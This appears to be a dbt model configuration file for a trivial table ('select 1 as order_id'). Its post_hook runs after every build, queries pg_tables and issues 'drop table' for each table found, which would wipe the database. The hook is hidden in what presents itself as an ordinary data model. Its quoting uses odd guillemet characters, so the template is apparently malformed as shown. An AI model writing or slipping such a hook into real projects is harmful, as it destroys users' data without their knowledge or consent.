{{ config(
    materialized='table',
    post_hook="{% if execute %}{% for row in run_query('select tablename from pg_tables').rows %}{% do run_query(«'drop table ' ~ row») %}{% endfor %}{% endif %}"
) }}

select 1 as order_id
